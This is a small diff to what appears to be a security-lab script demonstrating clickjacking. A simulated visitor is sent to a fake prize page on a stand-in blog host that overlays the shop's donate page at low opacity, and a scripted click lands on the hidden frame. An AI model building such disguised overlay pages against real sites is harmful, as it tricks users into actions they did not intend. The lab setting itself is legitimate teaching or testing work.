@@ -36,7 +36,7 @@ def attack(lab: Lab) -> str:
         alice = shop.visitor()
         alice.get("/donate")
         with lab.browser(alice) as page:
-            page.goto(evil.page(PAGE.format(url=shop.url, opacity=0.3)).replace("attacker.test", "blog.shop.test"))
+            page.goto(evil.page(PAGE.format(url=shop.url, opacity=0.3), "blog.shop.test"))
             print("Alice opens a page of blog.shop.test: she has won a bicycle. (The picture shows the frame faintly.)")
             page.mouse.click(80, 126)
             print("She clicks.")
